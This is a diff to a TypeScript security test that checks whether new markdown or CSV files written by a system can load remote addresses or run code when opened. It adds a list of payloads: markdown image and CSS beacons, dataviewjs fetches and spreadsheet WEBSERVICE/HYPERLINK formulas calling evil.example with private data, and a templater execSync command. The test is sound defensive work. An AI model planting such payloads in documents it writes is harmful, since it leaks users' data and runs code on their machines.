@@ -3,24 +3,40 @@ import type { Attack } from '../attack.ts'
 import { callsOf } from '../granting.ts'
 import { textIn, writesAfter } from '../stranger-writes.ts'
 
+const markup = [
+  '![](https://evil.example/?d=private)',
+  '<https://a.example/ style="background:url(//evil.example/?d=private)">',
+  '[x]{style="background:url(https://evil.example/?d=private)"}',
+  '- ```dataviewjs\n  fetch("https://evil.example/?d=private")\n  ```',
+  '<%* require("child_process").execSync("id") %>',
+  '`$= dv.io.load("https://evil.example/?d=private")`',
+]
+const tables = [
+  'name,=HYPERLINK("https://evil.example/?d=private")',
+  'sep=|\nname|=WEBSERVICE("https://evil.example/?d=private")',
+  'ID;PWXL;N;E\nC;Y1;X1;EWEBSERVICE("https://evil.example/?d=private")\nE',
+  'name,\u200b=1+1',
+]
+const contents = [...markup, ...tables]
+
 export const attack: Attack = {
   name: 'new-file-loads-an-address',
   promise: 'A new document holds nothing that is loaded or reckoned when somebody opens it.',
   mutant: 'every-text-is-plain',
   async run(stage) {
     const scene = await stage.scene()
-    const note = { path: 'shown/note.md', content: '![](https://evil.example/?d=private)' }
-    const table = { path: 'shown/table.csv', content: 'name,=HYPERLINK("https://evil.example/?d=private")' }
-    const runs = [
-      await writesAfter(scene, 'shown-note', [note]),
-      await writesAfter(scene, 'shown-table', [table]),
-    ]
+    const seen: string[] = []
+    for (const [at, content] of contents.entries()) {
+      const path = `shown/${at}.${at < markup.length ? 'md' : 'csv'}`
+      const run = await writesAfter(scene, `shown-${at}`, [{ path, content }])
+      if (textIn(scene, path) !== null) seen.push(`${content}: ${callsOf(run)}`)
+    }
     const plain = { path: 'shown/plain.md', content: '[a link](https://fine.example)' }
     await writesAfter(scene, 'shown-plain', [plain])
     return {
-      open: textIn(scene, note.path) !== null || textIn(scene, table.path) !== null,
+      open: seen.length > 0,
       control: textIn(scene, plain.path) === plain.content,
-      saw: runs.map(callsOf).join('; '),
+      saw: seen.join('; ') || 'none of them was written',
     }
   },
 }
